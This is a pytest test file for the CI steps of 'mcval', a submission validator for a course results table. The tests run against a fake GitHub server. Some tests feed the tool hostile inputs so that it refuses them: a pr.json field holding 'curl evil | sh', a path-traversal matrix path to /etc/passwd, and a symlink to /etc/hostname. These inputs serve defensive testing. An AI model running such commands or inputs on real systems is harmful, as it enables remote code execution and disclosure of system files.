"""Each ``mcval ci`` step on its own, against the fake GitHub server."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from ci_helpers import (
    INT8_MEASURED,
    INT8_YAML,
    RUNNER,
    ci_main,
    make_record,
    read_outputs,
    write_cell,
)
from fake_github import FakeGithub

from mcval.ci.plan import slug_of
from mcval.ci.status import commit_status
from mcval.ci.untrusted import load_untrusted_json
from mcval.render.comment import MARKER, RunSummary, SubmissionReport, render_comment
from mcval.results import save_record
from mcval.verdict import MeasuredFigures

BASE = "course/table"
FORK = "student/table"
YAML = "submissions/ml_masters/{name}.yaml"
TEAMS = '[github.teams]\nml_masters = ["student", "s"]\nquant = ["s"]\n'


@pytest.fixture(autouse=True)
def actions_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A job's environment: output and summary files, no event, cwd = the workspace."""
    monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "output"))
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    for name in ("GITHUB_EVENT_PATH", "GITHUB_RUN_ID", "GITHUB_SERVER_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[FakeGithub]:
    (tmp_path / "mcval.toml").write_text(TEAMS)
    with FakeGithub() as server:
        server.add_token("rw", "pull-requests:write", "statuses:write", "contents:write")
        server.create_repo(BASE, {"README.md": "# Course\n", YAML.format(name="old"): "old\n"})
        server.fork(BASE, FORK)
        monkeypatch.setenv("GITHUB_TOKEN", "rw")
        monkeypatch.setenv("GITHUB_REPOSITORY", BASE)
        monkeypatch.setenv("GITHUB_API_URL", server.url)
        yield server


def test_changed_lists_submissions_and_writes_the_matrix(fake: FakeGithub, tmp_path: Path) -> None:
    pull = fake.open_pull(
        BASE,
        FORK,
        {
            YAML.format(name="int8"): "a\n",
            YAML.format(name="old"): None,
            "submissions/ml_masters/data/eval.jsonl": "{}\n",
        },
        author="student",
    )
    assert ci_main(["ci", "changed", "--pr", str(pull.number), "--output", "plan.json"]) == 0
    outputs = read_outputs(tmp_path / "output")
    entry = {
        "id": "ml_masters/int8",
        "path": "submissions/ml_masters/int8.yaml",
        "slug": slug_of("ml_masters/int8"),
    }
    assert outputs == {
        "stale": "false",
        "served": "true",
        "base_ref": "main",
        "pr": str(pull.number),
        "head_sha": pull.head_sha,
        "count": "1",
        "ids": '["ml_masters/int8"]',
        "removed": '["submissions/ml_masters/old.yaml"]',
        "matrix": json.dumps({"include": [entry]}, separators=(",", ":")),
    }
    plan = json.loads((tmp_path / "plan.json").read_text())
    assert plan["removed"] == ["submissions/ml_masters/old.yaml"]
    assert plan["data_files"] == ["submissions/ml_masters/data/eval.jsonl"]
    assert plan["violations"] == []


def test_changed_rejects_a_pr_touching_mcval(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pull = fake.open_pull(BASE, FORK, {"mcval/cli.py": "import os\n"}, author="student")
    assert ci_main(["ci", "changed", "--pr", str(pull.number)]) == 1
    assert capsys.readouterr().err == (
        "error: mcval/cli.py: changes mcval/, the validator's own code and workflows; a "
        "submission PR may only add or change files under submissions/**\n"
    )
    assert "- `mcval/cli.py` changes mcval/" in (tmp_path / "summary.md").read_text()


def test_changed_flags_another_teams_files(fake: FakeGithub, tmp_path: Path) -> None:
    base = tmp_path / "base"
    base.mkdir()
    (base / "mcval.toml").write_text('[github.teams]\nml_masters = ["student"]\nquant = ["ivan"]\n')
    pull = fake.open_pull(BASE, FORK, {"submissions/quant/x.yaml": "x\n"}, author="student")
    assert ci_main(["ci", "changed", "--repo", "base", "--pr", str(pull.number)]) == 1
    summary = (tmp_path / "summary.md").read_text()
    assert (
        "- `submissions/quant/x.yaml` belongs to team 'quant' and student is not a member of it "
        "(your team is ml_masters)"
    ) in summary


def test_changed_on_a_moved_pr_is_stale_not_an_error(fake: FakeGithub, tmp_path: Path) -> None:
    pull = fake.open_pull(BASE, FORK, {YAML.format(name="a"): "a\n"}, author="student")
    old_sha = pull.head_sha
    fake.update_pull(BASE, pull.number, {YAML.format(name="a"): "b\n"})
    info = tmp_path / "pr.json"
    info.write_text(json.dumps({"number": pull.number, "head_sha": old_sha}))
    assert ci_main(["ci", "changed", "--pr-info", str(info), "--head-sha", old_sha]) == 0
    assert read_outputs(tmp_path / "output") == {"stale": "true", "count": "0", "pr": "1"}


def test_untrusted_pr_info_with_extra_fields_is_refused(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    info = tmp_path / "pr.json"
    info.write_text(json.dumps({"number": 1, "head_sha": "a" * 40, "run": "curl evil | sh"}))
    assert ci_main(["ci", "changed", "--pr-info", str(info)]) == 2
    assert capsys.readouterr().err == (
        f"error: {info}: not a valid pr.json: Extra inputs are not permitted\n"
    )


def test_fetch_overlays_pr_files_as_data(fake: FakeGithub, tmp_path: Path) -> None:
    dest = tmp_path / "base"
    (dest / "submissions/ml_masters").mkdir(parents=True)
    (dest / YAML.format(name="old")).write_text("old\n")
    pull = fake.open_pull(
        BASE,
        FORK,
        {YAML.format(name="new"): "new: data\n", YAML.format(name="old"): None},
        author="student",
    )
    argv = ["ci", "fetch", "--pr", str(pull.number), "--dest", "base", "--list", "list.txt"]
    assert ci_main(argv) == 0
    assert (dest / YAML.format(name="new")).read_text() == "new: data\n"
    assert not (dest / YAML.format(name="old")).exists()
    assert (tmp_path / "list.txt").read_text() == "submissions/ml_masters/new.yaml\n"


def test_fetch_only_one_submission_at_the_planned_sha(fake: FakeGithub, tmp_path: Path) -> None:
    files = {
        YAML.format(name="a"): "a\n",
        YAML.format(name="b"): "b\n",
        "submissions/ml_masters/data/eval.jsonl": '{"text": "hi"}\n',
        "submissions/quant/c.yaml": "c\n",
        "submissions/quant/data.csv": "x\n",
    }
    pull = fake.open_pull(BASE, FORK, files, author="s")
    argv = ["ci", "fetch", "--pr", "1", "--head-sha", pull.head_sha, "--dest", "w"]
    assert ci_main([*argv, "--only", "ml_masters/b"]) == 0
    fetched = sorted(p.relative_to(tmp_path / "w").as_posix() for p in tmp_path.glob("w/**/*.*"))
    # Every data file comes along (a submission may read another team's data); YAML only b.
    assert fetched == [
        "submissions/ml_masters/b.yaml",
        "submissions/ml_masters/data/eval.jsonl",
        "submissions/quant/data.csv",
    ]


def test_fetch_refuses_oversized_file(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.open_pull(BASE, FORK, {YAML.format(name="big"): "x" * 70_000}, author="s")
    assert ci_main(["ci", "fetch", "--pr", "1", "--dest", "w"]) == 2
    assert capsys.readouterr().err == (
        "error: submissions/ml_masters/big.yaml is 70000 bytes; a submission file may have at "
        "most 65536 bytes (mcval.toml limits.max_submission_bytes)\n"
    )
    assert not (tmp_path / "w/submissions/ml_masters/big.yaml").exists()


def test_fetch_never_writes_through_a_symlink(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "w/submissions").mkdir(parents=True)
    (tmp_path / "w/submissions/ml_masters").symlink_to(outside)
    fake.open_pull(BASE, FORK, {YAML.format(name="a"): "a\n"}, author="s")
    assert ci_main(["ci", "fetch", "--pr", "1", "--dest", "w"]) == 2
    assert capsys.readouterr().err == (
        "error: submissions/ml_masters/a.yaml: path escapes the work directory (symbolic link?)\n"
    )
    assert list(outside.iterdir()) == []


def test_comment_and_status_steps(fake: FakeGithub, tmp_path: Path) -> None:
    pull = fake.open_pull(BASE, FORK, {YAML.format(name="a"): "a\n"}, author="s")
    (tmp_path / "c.md").write_text("## result\n")
    assert ci_main(["ci", "comment", "--pr", "1", "--markdown", "c.md"]) == 0
    assert ci_main(["ci", "comment", "--pr", "1", "--markdown", "c.md"]) == 0
    assert len(fake.comments[(BASE, 1)]) == 1
    assert (tmp_path / "summary.md").read_text().count("## result") == 2
    argv = ["ci", "status", "--sha", pull.head_sha, "--state", "pending", "--description", "wait"]
    assert ci_main([*argv, "--target-url", "https://ci.invalid/1"]) == 0
    assert [
        (s["context"], s["state"], s["description"], s["target_url"])
        for s in fake.statuses[(BASE, pull.head_sha)]
    ] == [("mcval", "pending", "wait", "https://ci.invalid/1")]


def test_status_rejects_a_short_sha(fake: FakeGithub, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["ci", "status", "--sha", "abc123", "--state", "success", "--description", "x"]
    assert ci_main(argv) == 2
    assert capsys.readouterr().err == ("error: pass --sha with the full 40-character commit SHA\n")


# -- the report job ----------------------------------------------------------------------------


REPO_ROOT = Path(__file__).resolve().parents[1]
FP32 = "submissions/ml_masters/whisper-small-fp32.yaml"
INT8 = "submissions/ml_masters/whisper-small-int8.yaml"


def matrix(*ids: str) -> str:
    entries = [{"id": i, "path": f"submissions/{i}.yaml", "slug": slug_of(i)} for i in ids]
    return json.dumps({"include": entries})


FP32_MEASURED = MeasuredFigures(
    weights_mb=922.15,
    latency_cpu_ms=350.0,
    latency_gpu_ms=120.0,
    ram_mb=900.0,
    vram_mb=950.0,
    quality={"cer": 0.0134, "wer": 0.0383},
    cpu="AMD EPYC 9654",
    gpu="NVIDIA H100 80GB",
)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "submissions/ml_masters").mkdir(parents=True)
    (root / FP32).write_bytes((REPO_ROOT / FP32).read_bytes())
    (root / INT8).write_text(INT8_YAML)
    return root


def test_report_renders_records_and_distrusts_everything_else(repo: Path, tmp_path: Path) -> None:
    fp32 = make_record(repo, FP32, FP32_MEASURED)
    int8 = make_record(repo, INT8, INT8_MEASURED)
    assert (fp32.verdict, int8.verdict) == ("pass", "fail")
    art = tmp_path / "art"
    write_cell(art, fp32.id, "0\n", fp32)
    write_cell(art, int8.id, "1\n", int8)
    write_cell(art, "t/liar", "1\n", fp32.model_copy(update={"id": "t/liar"}))
    nan = write_cell(art, "t/nan", "0\n", None)
    (nan / "results/t").mkdir(parents=True)
    (nan / "results/t/nan.json").write_text('{"id": "t/nan", "measured": {"weights_mb": NaN}}')
    write_cell(art, "t/oom", "137\n", None, log="loading\nKilled ~~~\n")
    write_cell(art, "t/bad", "2\n", None, log="error  submissions/t/bad.yaml:3:1: oops\n")
    ids = [fp32.id, int8.id, "t/liar", "t/nan", "t/oom", "t/bad", "t/missing"]
    out = tmp_path / "comment.md"
    argv = ["ci", "report", "--repo", str(repo), "--artifacts", str(art), "--matrix"]
    argv += [matrix(*ids), "--head-sha", "f" * 40, "--output", str(out)]
    assert ci_main(argv) == 0
    text = out.read_text()
    assert text.startswith(  # every cell counted, as in the status (issue 13)
        f"{MARKER}\n## mcval: results check\n\n"
        "7 submission(s): 1 pass, 1 fail, 1 invalid, 4 could not be measured.\n"
    )
    assert (
        "<details><summary>✅ pass · ml_masters/whisper-small-fp32 — Whisper · "
        "openai/whisper-small</summary>" in text
    )
    assert "### ❌ fail · ml_masters/whisper-small-int8 — INT8 dynamic" in text
    assert f"Runner: {RUNNER}" in text
    assert text.count(MARKER) == 1
    assert (
        "### t/liar\n\n`submissions/t/liar.yaml`: ⚠️ **could not be measured**: exit code 1 "
        "and verdict 'pass' disagree. Maintainers: see the workflow run's logs."
    ) in text
    assert "the result file is not valid: NaN is not valid JSON" in text
    assert "no result file (mcval validate exited with 137)" in text
    assert "~~~~text\nloading\nKilled ~ ~ ~\n~~~~" in text
    assert (
        "### t/bad\n\n`submissions/t/bad.yaml`: ⛔ **invalid**: `mcval validate` rejected the "
        "file; run it locally to see every problem with its line.\n\n~~~~text\n"
        "error  submissions/t/bad.yaml:3:1: oops\n~~~~"
    ) in text
    assert "the job's results artifact is missing (the job failed or was cancelled)" in text
    assert text.endswith("<sub>mcval run for commit fffffff.</sub>\n")
    assert read_outputs(tmp_path / "output") == {
        "state": "error",
        "description": "7 submission(s): 1 passed, 2 failed, 4 could not be measured",
    }


def test_report_unstable_cell_could_not_be_measured(repo: Path, tmp_path: Path) -> None:
    """Exit 3 with an 'unmeasured' record: the runner's fault, so the commit status is
    error ("could not be measured"), never a failure, and the section still renders."""
    busy = make_record(
        repo,
        FP32,
        FP32_MEASURED.model_copy(
            update={"unstable": {"latency_gpu_ms": "the GPU clock changed between windows"}}
        ),
    )
    assert busy.verdict == "unmeasured"
    art = tmp_path / "art"
    write_cell(art, busy.id, "3\n", busy)
    write_cell(art, "t/liar", "1\n", busy.model_copy(update={"id": "t/liar"}))
    out = tmp_path / "comment.md"
    argv = ["ci", "report", "--repo", str(repo), "--artifacts", str(art), "--output", str(out)]
    assert ci_main([*argv, "--matrix", matrix(busy.id, "t/liar")]) == 0
    text = out.read_text()
    assert "### 🔁 re-run · ml_masters/whisper-small-fp32 — Whisper · openai/whisper-small" in text
    assert (
        "| GPU latency (ms) | 156.32 | 120.00 | +30.3 % |  | ⚠️ unstable — could not "
        "measure stably: the GPU clock changed between windows; re-run |"
    ) in text
    assert "exit code 1 and verdict 'unmeasured' disagree" in text
    assert read_outputs(tmp_path / "output") == {
        "state": "error",
        "description": "2 submission(s): 0 passed, 2 could not be measured",
    }


def test_report_cell_for_another_submission_is_refused(repo: Path, tmp_path: Path) -> None:
    int8 = make_record(repo, INT8, INT8_MEASURED)
    art = tmp_path / "art"
    folder = write_cell(art, "ml_masters/whisper-small-fp32", "1\n", None)
    # The int8 record placed where the fp32 cell's record belongs.
    forged = folder / "results/ml_masters/whisper-small-fp32.json"
    forged.parent.mkdir(parents=True)
    forged.write_text(int8.model_dump_json())
    argv = ["ci", "report", "--repo", str(repo), "--artifacts", str(art), "--output", "c.md"]
    assert ci_main([*argv, "--matrix", matrix("ml_masters/whisper-small-fp32")]) == 0
    assert (
        "the result file is for 'ml_masters/whisper-small-int8', not for this submission"
        in (tmp_path / "c.md").read_text()
    )


def test_report_with_no_submissions_is_success(tmp_path: Path) -> None:
    argv = ["ci", "report", "--artifacts", str(tmp_path), "--matrix", '{"include": []}']
    assert ci_main([*argv, "--output", str(tmp_path / "c.md")]) == 0
    assert read_outputs(tmp_path / "output")["state"] == "success"
    assert "No submission files changed in this pull request." in (tmp_path / "c.md").read_text()


def test_report_refuses_a_forged_matrix(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    forged = json.dumps(
        {"include": [{"id": "a/b", "path": "submissions/../../etc/passwd", "slug": "x"}]}
    )
    argv = ["ci", "report", "--artifacts", ".", "--matrix", forged, "--output", "c.md"]
    assert ci_main(argv) == 2
    assert capsys.readouterr().err == (
        "error: --matrix entry 'a/b' has a bad path 'submissions/../../etc/passwd'\n"
    )


def test_untrusted_json_limits() -> None:
    assert load_untrusted_json(b'{"a": [1, 2.5, "x", null]}') == {"a": [1, 2.5, "x", None]}
    with pytest.raises(ValueError, match="nested deeper than 32 levels"):
        load_untrusted_json(b'{"a": ' + b"[" * 40 + b"]" * 40 + b"}")
    with pytest.raises(ValueError, match="at most 1048576"):
        load_untrusted_json(b" " * (1024 * 1024 + 1))
    with pytest.raises(ValueError):
        load_untrusted_json(b"[1, 2]")


# -- publish ------------------------------------------------------------------------------------


def test_publish_step_commits_files_and_dirs(fake: FakeGithub, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "submissions/ml_masters").mkdir(parents=True)
    (repo / YAML.format(name="int8")).write_text(INT8_YAML)
    (repo / "README.md").write_text("# Course\n| row |\n")
    record = save_record(
        repo / "results", make_record(repo, YAML.format(name="int8"), INT8_MEASURED)
    )
    start = fake.branch_sha(BASE)
    argv = ["ci", "publish", "--repo", str(repo), "--base-sha", start, "--missing-ok"]
    assert ci_main([*argv, "--files", "README.md", "results.svg", "results"]) == 0
    assert fake.file_at(BASE, "main", "README.md") == b"# Course\n| row |\n"
    assert fake.file_at(BASE, "main", "results/ml_masters/int8.json") == record.read_bytes()
    assert read_outputs(tmp_path / "output")["commit"] == fake.branch_sha(BASE)


def test_publish_step_refuses_symlinks(
    fake: FakeGithub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "README.md").symlink_to("/etc/hostname")
    assert ci_main(["ci", "publish", "--repo", str(repo), "--files", "README.md"]) == 2
    assert capsys.readouterr().err == "error: README.md: refusing to publish a symbolic link\n"


def test_ci_module_does_not_import_pygithub_or_torch() -> None:
    code = (
        "import sys; import mcval.cli as cli; cli.build_parser(); "
        "import mcval.ci.plan, mcval.ci.fetch, mcval.ci.report, mcval.ci.comment; "
        "import mcval.ci.status, mcval.ci.publish; "
        "print('github' in sys.modules, 'torch' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False False"


def test_report_summary_counts_every_cell_in_the_comment_and_the_status(
    repo: Path, tmp_path: Path
) -> None:
    """Issue 13: with a cell that could not be measured the commit status said "3
    submission(s): 2 passed, 1 could not be measured" while the comment said "2
    submission(s): 2 pass". One summary feeds both, so they count the same cells."""
    fp32 = make_record(repo, FP32, FP32_MEASURED)
    assert fp32.verdict == "pass"
    art = tmp_path / "art"
    write_cell(art, fp32.id, "0\n", fp32)
    write_cell(art, "t/copy", "0\n", fp32.model_copy(update={"id": "t/copy"}))
    out = tmp_path / "comment.md"
    argv = ["ci", "report", "--repo", str(repo), "--artifacts", str(art), "--output", str(out)]
    assert ci_main([*argv, "--matrix", matrix(fp32.id, "t/copy", "t/missing")]) == 0
    text = out.read_text()
    outputs = read_outputs(tmp_path / "output")
    assert outputs == {
        "state": "error",
        "description": "3 submission(s): 2 passed, 1 could not be measured",
    }
    assert text.startswith(
        f"{MARKER}\n## mcval: results check\n\n3 submission(s): 2 pass, 1 could not be measured.\n"
    )
    assert "| t/missing | ⚠️ could not be measured |" in text
    assert text.count("the job's results artifact is missing") == 1


def test_comment_line_and_commit_status_read_one_summary() -> None:
    reports = [
        SubmissionReport("t/a", "submissions/t/a.yaml", problem="the artifact is missing"),
        SubmissionReport("t/b", "submissions/t/b.yaml"),
    ]
    summary = RunSummary.of(reports)
    assert summary.line() == "2 submission(s): 1 invalid, 1 could not be measured."
    assert commit_status(summary) == (
        "error",
        "2 submission(s): 0 passed, 1 failed, 1 could not be measured",
    )
    assert commit_status(RunSummary.of([])) == ("success", "no submission changed")
    with pytest.raises(ValueError, match="does not count these reports"):
        render_comment(reports[:1], summary=summary)
